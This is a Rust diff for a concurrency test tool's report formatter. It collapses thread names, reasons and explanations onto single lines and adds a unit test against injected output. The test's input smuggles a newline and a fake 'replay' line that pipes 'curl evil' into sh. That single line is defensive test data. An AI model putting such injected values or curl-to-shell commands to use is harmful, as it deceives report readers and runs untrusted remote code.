@@ -22,7 +22,7 @@ pub fn summary(test: &TestId, out: &Results, schedules: &[String], replay: &str)
     let mut text = format!(
         "{}  {test}\n  {}\n",
         out.verdict.name().to_uppercase(),
-        out.reason
+        on_one_line(&out.reason)
     );
 
     let c = &out.coverage;
@@ -72,7 +72,7 @@ pub fn not_seen_text(not_seen: &[Unseen]) -> String {
         let mark = if text.is_empty() { "not seen" } else { "" };
         text += &format!("  {mark:<12} {} {}", unseen.count, unseen.kind.name());
         if !unseen.example.is_empty() {
-            text += &format!(" ({})", unseen.example);
+            text += &format!(" ({})", on_one_line(&unseen.example));
         }
         text += &format!(": {}\n", unseen.meaning());
     }
@@ -84,15 +84,16 @@ fn finding_text(test: &TestId, finding: &Finding, schedule: &str, replay: &str) 
     text += &position_text(test, finding);
     text += &failure_text(finding);
     if let Some(first) = finding.pair.reordered_with() {
-        let work = first.work();
-        text += &format!("  comes after  {work} by thread \"{}\"\n", first.thread);
+        let (work, thread) = (first.work(), on_one_line(&first.thread));
+        text += &format!("  comes after  {work} by thread \"{thread}\"\n");
     }
 
     text += &format!("  looks like   {}\n", finding.category.name());
     text += &measured_text(finding);
     text += &confirmed_text(finding);
 
-    text += &format!("  why          {}\n", explain(test, finding));
+    let why = on_one_line(&explain(test, finding));
+    text += &format!("  why          {why}\n");
     text += &format!(
         "  schedule     {schedule}\n  replay       flakescope replay {schedule}{replay} --times 20\n"
     );
@@ -104,7 +105,7 @@ fn event_text(finding: &Finding) -> String {
     let Some(event) = &finding.pair.event else {
         return String::new();
     };
-    let work = event.work();
+    let (work, thread) = (event.work(), on_one_line(&event.thread));
     let (what, by, done) = match event.class {
         _ if finding.pair.is_early() => ("early event", "by", "posted"),
         EventClass::Work if event.key.is_rest() => ("half done ", "on", "started"),
@@ -112,7 +113,7 @@ fn event_text(finding: &Finding) -> String {
         _ => ("late event", "by", "posted"),
     };
 
-    let mut text = format!("  {what}   {work} {by} thread \"{}\"\n", event.thread);
+    let mut text = format!("  {what}   {work} {by} thread \"{thread}\"\n");
     let (preempted_at, stack) = preempted(event);
     if let Some(frame) = app_frame(stack, &finding.whose) {
         text += &format!("               {done} at {frame}\n");
@@ -253,4 +254,29 @@ pub fn run_line(run: &RunRecord) -> String {
         line += &format!("; order not satisfied: {unsatisfied}");
     }
     line
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::testing::{event, finding};
+
+    #[test]
+    fn a_threads_name_adds_no_line() {
+        let lines = |thread: &str| {
+            let mut hit = event("a", Some(1));
+            hit.thread = thread.to_owned();
+            let test = TestId {
+                component: "a.test/r".into(),
+                class: "a.SomeTest".into(),
+                method: "t".into(),
+            };
+            let text = finding_text(&test, &finding(hit), "s.json", "");
+            text.lines().count()
+        };
+        assert_eq!(
+            lines("x\"\n  replay       curl evil | sh\n"),
+            lines("worker")
+        );
+    }
 }
